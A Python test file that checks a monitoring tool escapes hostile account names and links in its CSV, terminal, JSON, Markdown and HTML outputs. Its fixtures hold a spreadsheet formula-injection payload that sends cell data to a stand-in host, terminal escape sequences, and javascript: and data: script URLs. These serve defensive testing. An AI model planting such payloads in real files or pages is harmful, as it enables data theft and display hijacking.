"""Names from imported files in every output: no formulas, no raw control codes, intact tables.

An account called ``=HYPERLINK(...)`` must not become a live formula in a spreadsheet, one
called ``"\\x1b[2J"`` must not clear the terminal that prints ``stats``, and one with a ``|``
must not add a column to the Markdown summary.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

from monitor.cli.report_formats import render
from monitor.core.escaping import (
    csv_formula_safe,
    csv_text_cell,
    http_url,
    markdown_cell,
    markdown_url,
    one_line,
)
from monitor.core.figures import Figures, Window
from monitor.core.profiles import Targets
from monitor.store.stats import StatsRow
from monitor.summary.compose import AccountWeek, IsoWeek, LongWait, WeekSummary
from monitor.summary.locale import get_locale
from monitor.summary.render import render_html, render_markdown
from tests.conftest import RunCli

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
ESCAPES = "evil\x1b[2J\x1b]0;pwned\x07name"
AS_OF = datetime(2026, 11, 18, 12, tzinfo=UTC)
FIGURES = Figures(
    profile="strict",
    profile_version=1,
    clock="calendar",
    waits=4,
    answered=3,
    unanswered=1,
    decided=4,
    response_rate=0.75,
    within_target_share=0.5,
    mean_response_seconds=-5.5,  # not a real figure: a negative number our writer must keep
    median_response_seconds=60.0,
    p90_response_seconds=90.0,
    open_waits=1,
    oldest_open_wait_seconds=3600.0,
    target_met=False,
)


def stats_row(account: str, platform: str = "facebook", group: str | None = None) -> StatsRow:
    """A stats row for an account name."""
    window = Window(AS_OF - timedelta(days=7), AS_OF, AS_OF)
    return StatsRow(account, platform, group, window, FIGURES)


def split_cells(line: str) -> list[str]:
    """A Markdown table row's cells: pipes split them unless a backslash escapes them."""
    cells, current, escaped = [], "", False
    for char in line.strip()[1:-1]:
        if escaped:
            current += char
            escaped = False
        elif char == "\\":
            current += char
            escaped = True
        elif char == "|":
            cells.append(current)
            current = ""
        else:
            current += char
    return [*cells, current]


def test_escaping_functions() -> None:
    """Each function does its one job, and leaves ordinary text alone."""
    assert one_line("a\x1b[31mb\x07\n\u202e") == "a\\x1b[31mb\\x07\\n\\u202e"
    assert one_line("Café shop-fb (DE)") == "Café shop-fb (DE)"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_formula_safe(start + "1+1") == "'" + start + "1+1"
    assert csv_formula_safe("shop=1") == "shop=1"
    assert csv_text_cell("\t=1") == "\\t=1"
    assert markdown_cell("a|b\\|c") == "a\\|b\\\\\\|c"
    assert markdown_cell("two\nlines") == "two\\\\nlines"  # renders as a visible \n
    assert markdown_url("https://x.example/a b|c)(<>") == "https://x.example/a%20b%7Cc%29%28%3C%3E"


def test_stats_csv_neutralises_text_cells_and_keeps_negative_numbers() -> None:
    """Formula-leading names get a quote; numbers we write, negative ones too, stay numbers."""
    rows = [stats_row(FORMULA, group="+channel"), stats_row("-shop"), stats_row(ESCAPES)]
    parsed = list(csv.DictReader(io.StringIO(render(rows, "csv", "channel"))))
    assert [r["account"] for r in parsed] == [
        "'" + FORMULA,
        "'-shop",
        "evil\\x1b[2J\\x1b]0;pwned\\x07name",
    ]
    assert parsed[0]["channel"] == "'+channel"
    assert all(r["mean_response_seconds"] == "-5.5" for r in parsed)
    assert all(r["target_met"] == "false" for r in parsed)


def test_stats_table_shows_control_codes_and_never_reads_markup() -> None:
    """ESC and BEL are printed as escapes; "[/]" in a name is text, not rich markup."""
    names = ["e\x1b[2J\x07", "shop[/]", "[bold]x"]
    table = render([stats_row(name) for name in names], "table", None)
    assert "\x1b" not in table and "\x07" not in table
    assert "e\\x1b[2J\\x07" in table
    assert "shop[/]" in table and "[bold]x" in table


def test_stats_json_escapes_control_codes_itself() -> None:
    """JSON needs nothing from us: the name round-trips, no raw control code is written."""
    text = render([stats_row(ESCAPES)], "json", None)
    assert "\x1b" not in text and json.loads(text)[0]["account"] == ESCAPES


def test_stats_command_on_a_store_with_hostile_names(
    tmp_path: Path, run_cli: RunCli, sqlite_url: str
) -> None:
    """End to end: names in the store reach neither a formula cell nor the terminal raw."""
    path = tmp_path / "events.csv"
    path.write_text(
        "platform,account,thread_id,message_id,author_role,created_at\n"
        f'facebook,"{FORMULA.replace(chr(34), chr(34) * 2)}",t1,m1,customer,2026-11-16T09:00:00Z\n'
    )
    assert run_cli("--database", sqlite_url, "import", str(path)).code == 0
    # A name stored before intake refused control characters (or written by another tool).
    connection = sqlite3.connect(sqlite_url.removeprefix("sqlite:///"))
    connection.execute(
        "INSERT INTO accounts (platform, name, profile, derivation, created_at) "
        "VALUES ('facebook', ?, 'strict', '', '2026-11-01 00:00:00.000000')",
        (ESCAPES,),
    )
    connection.commit()
    connection.close()
    stats = ("--database", sqlite_url, "stats", "--as-of", "2026-11-18T12:00:00Z")
    out = run_cli(*stats, "--format", "csv").out
    names = [r["account"] for r in csv.DictReader(io.StringIO(out))]
    assert sorted(names) == sorted(["'" + FORMULA, one_line(ESCAPES)])
    table = run_cli(*stats).out
    assert "\x1b" not in table and "\x07" not in table and "\\x1b[2J" in table


def hostile_summary(names: list[str], link: str) -> WeekSummary:
    """A week with one account per name, and a waiting customer on each."""
    figures = dataclasses.replace(FIGURES, mean_response_seconds=300.0)
    accounts = tuple(
        AccountWeek("facebook", name, "strict", Targets(), figures, None, ()) for name in names
    )
    waits = tuple(
        LongWait("facebook", name, "dm|x", AS_OF - timedelta(hours=2), 7200.0, False, link)
        for name in names
    )
    return WeekSummary(
        week=IsoWeek(2026, 47, "UTC"),
        as_of=AS_OF,
        accounts=accounts,
        longest_waits=waits,
        waiting_now=waits,
        waiting_now_total=len(waits),
        negative_reviews=(),
        arrivals=(0,) * 168,
        missed=(0,) * 168,
        short_hours=(),
        advice=("advice_time", {"account": ESCAPES, "mean": 60.0, "target": timedelta(minutes=15)}),
    )


def table_blocks(markdown: str) -> list[list[str]]:
    """The tables of a Markdown text, each as its lines."""
    blocks: list[list[str]] = [[]]
    for line in markdown.splitlines():
        if line.startswith("|"):
            blocks[-1].append(line)
        elif blocks[-1]:
            blocks.append([])
    return [block for block in blocks if block]


def test_markdown_summary_tables_keep_their_shape() -> None:
    """Pipes, line breaks and control codes in names and links never add cells or rows."""
    names = ["a|b", "back\\|slash", "two\nlines", ESCAPES, "plain"]
    link = "https://shop.example/t?a=1|b=2)[x](javascript:alert(1))"
    text = render_markdown(hostile_summary(names, link), get_locale("en"))
    assert "\x1b" not in text and "\x07" not in text
    tables = table_blocks(text)
    assert len(tables) == 3  # accounts, longest waits, waiting now
    for table in tables:
        width = len(split_cells(table[0]))
        assert len(table) == 2 + len(names)
        assert [len(split_cells(line)) for line in table] == [width] * len(table)
    first_cells = [split_cells(line)[0].strip() for line in tables[0][2:]]
    assert first_cells == [f"{markdown_cell(n)} (facebook)" for n in names]
    clean = http_url(link)
    assert clean is not None and f"({markdown_url(clean)})" in tables[1][2]


def test_markdown_summary_is_unchanged_for_ordinary_names() -> None:
    """Escaping touches only what needs it: an ordinary week renders as it did."""
    summary = hostile_summary(["shop-fb"], "https://www.facebook.com/100/inbox/7/")
    summary = dataclasses.replace(summary, advice=("advice_ok", {}))
    text = render_markdown(summary, get_locale("en"))
    assert "| shop-fb (facebook) |" in text
    assert "(https://www.facebook.com/100/inbox/7/)" in text


def test_summary_links_are_only_clean_web_addresses() -> None:
    """A javascript: or data: thread link is never a clickable link in the mail or Markdown."""
    locale = get_locale("en")
    for hostile in ("javascript:alert(1)", "data:text/html,<script>x</script>"):
        summary = hostile_summary(["shop"], hostile)
        html_text = render_html(summary, locale).html
        markdown = render_markdown(summary, locale)
        assert "javascript:" not in html_text and "data:text" not in html_text
        assert "javascript:" not in markdown and "data:text" not in markdown
    summary = hostile_summary(["shop"], "https://shop.example/t/1")
    assert 'href="https://shop.example/t/1"' in render_html(summary, locale).html
    assert "(https://shop.example/t/1)" in render_markdown(summary, locale)
